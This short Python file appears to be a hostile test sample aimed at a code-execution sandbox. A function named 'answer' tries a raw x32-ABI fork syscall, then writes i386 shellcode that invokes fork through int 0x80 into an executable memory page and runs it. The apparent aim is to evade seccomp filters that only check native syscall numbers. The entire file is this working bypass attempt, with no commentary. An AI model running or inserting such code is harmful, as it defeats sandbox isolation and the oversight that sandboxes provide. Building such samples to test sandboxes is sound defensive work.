# attack: makes calls by numbers of another kind of machine
# ruff: noqa
import ctypes, mmap, platform


def answer(n):
    libc = ctypes.CDLL(None, use_errno=True)
    if platform.machine() == "x86_64":
        libc.syscall(0x40000000 + 57, 0, 0, 0)
        if ctypes.get_errno() not in (1, 38):
            return "x32"
        page = mmap.mmap(-1, 4096, prot=7)
        page.write(b"\xb8\x02\x00\x00\x00\xcd\x80\xc3")
        ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
        return "i386"
    return 0
